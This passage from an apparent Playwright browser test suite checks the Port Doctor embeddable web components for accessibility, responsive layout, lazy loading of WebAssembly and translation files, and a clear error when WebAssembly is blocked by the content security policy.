      .catch(async () => (await Promise.all([p.waitForEvent('filechooser', { timeout: 5000 }), p.keyboard.press('Space')]))[0]);
    await chooser.setFiles(saved);
    await p.waitForFunction(() => window.__events.some((e) => e.type === 'portdoctor-opened'), null, { timeout: 5000 });
    assert((await focused()) === 'headline', 'the opened report takes the focus to its headline');
    noProblems(p, 'keyboard');
    await p.context().close();
  }],

  ['axe: no serious or critical violation, in the page and in the shadow roots, in every state', async () => {
    for (const lang of ['en', 'zh-CN']) {
      const p = await page({ bypassCSP: true, url: `${demo}?lang=${lang}` });
      await ready(p);
      await ready(p, REPORT);
      await p.waitForFunction((l) => document.documentElement.lang === l, lang, { timeout: 5000 });
      await axe(p, `${lang}: the start`);
      await explainIn(p, MESSAGES[lang === 'en' ? 0 : 3].text);
      await p.click(`${EXPLAIN} [data-testid="helpdesk"] summary`);
      const file = path.join(scratch, `axe-${lang}.json`);
      fs.writeFileSync(file, JSON.stringify(cliExplain(MESSAGES[1].text, 'de')));
      await openIn(p, file);
      await axe(p, `${lang}: an answer and an opened report`);
      await p.fill(tid(EXPLAIN, 'input'), ' ');
      await p.click(tid(EXPLAIN, 'explain'));
      await p.waitForSelector(`${EXPLAIN} [data-testid="error"]:not(:empty)`, { timeout: 5000 });
      await axe(p, `${lang}: an error`);
      await p.context().close();
    }
  }],

  ['the layout holds at 320 and 420 px, light and dark; a screenshot of the demo', async () => {
    for (const scheme of ['light', 'dark']) {
      const p = await page({ width: 1000 });
      await p.emulateMedia({ colorScheme: scheme });
      await explainIn(p, MESSAGES[0].text);
      await p.click(`${EXPLAIN} [data-testid="helpdesk"] summary`);
      await p.click(`${EXPLAIN} [data-testid="commands"] summary`);
      const file = path.join(scratch, 'layout.json');
      fs.writeFileSync(file, JSON.stringify(cliExplain(MESSAGES[3].text, 'zh-CN')));
      await openIn(p, file);
      await p.screenshot({ path: path.join(artifacts, `embed-demo${scheme === 'dark' ? '-dark' : ''}.png`), fullPage: true });
      for (const width of [420, 320]) {
        await fits(p, width, `${scheme}`);
        await p.screenshot({ path: path.join(artifacts, `embed-demo-${width}${scheme === 'dark' ? '-dark' : ''}.png`), fullPage: true });
      }
      noProblems(p, `layout ${scheme}`);
      await p.context().close();
    }
  }],

  ['the inlined variant fetches nothing: no .wasm request, and it answers', async () => {
    const from = requests.length;
    const p = await page({ url: `${origin}/inline.html` });
    const shown = await explainIn(p, MESSAGES[4].text);
    assert(shown === cliExplain(MESSAGES[4].text, 'de').findings[0].headline, `inline, German from <html lang>: ${shown}`);
    const fetched = requests.slice(from).map((r) => r.path);
    assert(!fetched.some((f) => f.endsWith('.wasm') || f.endsWith('.ftl')), `the inlined variant fetched ${fetched.join(', ')}`);
    noProblems(p, 'inline');
    await p.context().close();
  }],

  ['a page with only the explainer fetches the smaller module, and it answers as the CLI does', async () => {
    const from = requests.length;
    const p = await page({ url: `${origin}/explain-only.html` });
    for (const m of [MESSAGES[0], MESSAGES[3]]) {
      const shown = await explainIn(p, m.text);
      assert(shown === cliExplain(m.text, 'fr').findings[0].headline, `explain-only, French from <html lang>: ${shown}`);
    }
    const fetched = requests.slice(from).map((r) => r.path);
    const wasm = fetched.filter((f) => f.endsWith('.wasm'));
    assert(JSON.stringify(wasm) === JSON.stringify(['/portdoctor_explain_bg.wasm']), `explain-only fetched ${wasm.join(', ')}`);
    assert(fetched.includes('/i18n/fr.ftl'), `French was not fetched: ${fetched.join(', ')}`);
    noProblems(p, 'explain-only');
    await p.context().close();
  }],

  ['a language other than English is fetched once, from i18n/ beside the script, when an element first speaks it', async () => {
    const from = requests.length;
    const p = await page();
    await ready(p, EXPLAIN);
    await ready(p, REPORT);
    const ftl = () => requests.slice(from).map((r) => r.path).filter((f) => f.endsWith('.ftl'));
    assert(ftl().length === 0, `an English page fetched ${ftl().join(', ')}`);
    const ru = catalogue('ru');
    await p.evaluate(() => {
      for (const e of document.querySelectorAll('port-doctor-explain, port-doctor-report')) e.setAttribute('lang', 'ru');
    });
    await p.waitForFunction((want) => document.querySelector('port-doctor-explain')?.shadowRoot?.querySelector('label')?.textContent?.trim() === want, ru('embed-explain-label'), { timeout: 10_000 });
    await p.waitForFunction((want) => document.querySelector('port-doctor-report')?.shadowRoot?.querySelector('label')?.textContent?.trim() === want, ru('ui-open-report'), { timeout: 10_000 });
    assert(JSON.stringify(ftl()) === JSON.stringify(['/i18n/ru.ftl']), `fetched ${ftl().join(', ')}`);
    const shown = await explainIn(p, MESSAGES[0].text);
    assert(shown === cliExplain(MESSAGES[0].text, 'ru').findings[0].headline, `in Russian: ${shown}`);
    noProblems(p, 'ru');
    await p.context().close();
  }],

  ['without \'wasm-unsafe-eval\' the elements say that Port Doctor could not start', async () => {
    const p = await page({ url: `${demo}?nowasm=1` });
    await p.waitForSelector(tid(EXPLAIN, 'unavailable'), { timeout: 10_000 });
    const said = ((await p.textContent(tid(EXPLAIN, 'unavailable'))) ?? '').trim();
    assert(said === catalogue('en')('embed-unavailable'), said);
    assert((await p.textContent(tid(REPORT, 'unavailable')))?.trim() === said, 'the report element says it too');
    const errors = await events(p, 'portdoctor-error');
    assert(errors.length >= 2 && errors.every((e) => e.detail.code === 'wasm-unavailable'), JSON.stringify(errors));
    await p.context().close();
  }],
]);

await browser.close();
server.close();
console.log(`(requests served: ${requests.length}; none but GET)`);
process.exit(ok ? 0 : 1);
